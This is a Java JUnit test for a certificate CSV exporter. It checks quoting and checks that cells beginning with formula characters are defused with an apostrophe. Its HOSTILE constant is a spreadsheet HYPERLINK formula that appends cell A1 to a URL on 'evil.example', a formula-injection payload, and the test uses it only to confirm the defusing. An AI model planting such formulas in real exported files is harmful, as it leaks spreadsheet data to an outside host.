package io.certatlas.client.csv;

import static org.assertj.core.api.Assertions.assertThat;

import io.certatlas.client.model.Name;
import java.io.StringWriter;
import java.time.Instant;
import java.util.ArrayList;
import java.util.Iterator;
import java.util.LinkedHashMap;
import java.util.List;
import java.util.Map;
import java.util.Optional;
import org.junit.jupiter.api.Test;
import tools.jackson.databind.MappingIterator;
import tools.jackson.dataformat.csv.CsvMapper;
import tools.jackson.dataformat.csv.CsvReadFeature;

/** The certificate CSV read back by a real CSV parser (Jackson's), cell for cell. */
class CertificateCsvTest {

    private static final String HOSTILE = "=HYPERLINK(\"http://evil.example/\"&A1,\"click\")";

    private static CsvCertificate certificate(String certhash, Name subject) {
        Map<String, List<String>> sans = new LinkedHashMap<>();
        sans.put("DNS Name", List.of("a.example.com", "b.example.com"));
        sans.put("IP Address", List.of("10.0.0.1"));
        sans.put("Email Address", List.of("ops@example.com"));
        return new CsvCertificate(certhash, subject,
                new Name("Example CA, \"Issuing\"", "Example\nLtd", List.of(), "", "", "US"),
                "CN=" + subject.name(), "00:ab", Optional.of(Instant.parse("2025-01-02T03:04:05.678Z")),
                Optional.of(Instant.parse("2026-01-02T03:04:05Z")), 2048, "RSA", "SHA256withRSA", "Leaf", false,
                "unapproved", false, sans, List.of("SCAN", "IMPORT"), 3, 2, Optional.empty(), List.of("web2", "-web1"));
    }

    private static List<List<String>> parse(String csv) {
        CsvMapper mapper = CsvMapper.builder().enable(CsvReadFeature.WRAP_AS_ARRAY).build();
        List<List<String>> rows = new ArrayList<>();
        try (MappingIterator<String[]> it = mapper.readerFor(String[].class).readValues(csv)) {
            while (it.hasNext()) {
                rows.add(List.of(it.next()));
            }
        }
        return rows;
    }

    @Test
    void everyCellComesBackFromACsvParserAsWritten() {
        Name subject = new Name("host, with \"quotes\"\r\nand a new line", HOSTILE, List.of("+Ops", "@team", "IT"),
                "-Köln", "\tTab", "DE");
        StringWriter text = new StringWriter();
        try (CsvWriter out = new CsvWriter(text)) {
            CertificateCsv.FORMAT.writeHeader(out);
            CertificateCsv.FORMAT.write(out, certificate("ab".repeat(32), subject));
            CertificateCsv.FORMAT.write(out, certificate("cd".repeat(32), new Name("plain.example.com", "", List.of(), "", "", "")));
        }

        List<List<String>> rows = parse(text.toString());

        assertThat(rows).hasSize(3);
        assertThat(rows.get(0)).isEqualTo(CertificateCsv.FORMAT.headers());
        Map<String, String> first = byHeader(rows.get(0), rows.get(1));
        assertThat(first.get("certhash")).isEqualTo("ab".repeat(32));
        assertThat(first.get("subject.name")).isEqualTo("host, with \"quotes\"\r\nand a new line");
        // Formula characters at the start are defused with an apostrophe, which spreadsheets show as text.
        assertThat(first.get("subject.organization")).isEqualTo("'" + HOSTILE);
        assertThat(first.get("subject.organizationUnit")).isEqualTo("'+Ops; @team; IT");
        assertThat(first.get("subject.locality")).isEqualTo("'-Köln");
        assertThat(first.get("subject.state")).isEqualTo("'\tTab");
        assertThat(first.get("issuer.name")).isEqualTo("Example CA, \"Issuing\"");
        assertThat(first.get("issuer.organization")).isEqualTo("Example\nLtd");
        assertThat(first.get("validFrom")).isEqualTo("2025-01-02T03:04:05Z");
        assertThat(first.get("validTo")).isEqualTo("2026-01-02T03:04:05Z");
        assertThat(first.get("san.dns")).isEqualTo("a.example.com; b.example.com");
        assertThat(first.get("san.ip")).isEqualTo("10.0.0.1");
        assertThat(first.get("san.other")).isEqualTo("Email Address: ops@example.com");
        assertThat(first.get("sources")).isEqualTo("SCAN; IMPORT");
        assertThat(first.get("lastFound")).isEmpty();
        assertThat(first.get("assets")).isEqualTo("'-web1; web2");
        assertThat(byHeader(rows.get(0), rows.get(2)).get("subject.name")).isEqualTo("plain.example.com");
    }

    @Test
    void aCellIsQuotedOnlyWhenItMustBe() {
        assertThat(CsvWriter.cell("plain")).isEqualTo("plain");
        assertThat(CsvWriter.cell("a,b")).isEqualTo("\"a,b\"");
        assertThat(CsvWriter.cell("say \"hi\"")).isEqualTo("\"say \"\"hi\"\"\"");
        assertThat(CsvWriter.cell(" edge")).isEqualTo("\" edge\"");
        assertThat(CsvWriter.cell("=1+1")).isEqualTo("'=1+1");
        assertThat(CsvWriter.cell("")).isEmpty();
    }

    private static Map<String, String> byHeader(List<String> headers, List<String> row) {
        assertThat(row).hasSameSizeAs(headers);
        Map<String, String> cells = new LinkedHashMap<>();
        Iterator<String> values = row.iterator();
        headers.forEach(header -> cells.put(header, values.next()));
        return cells;
    }
}
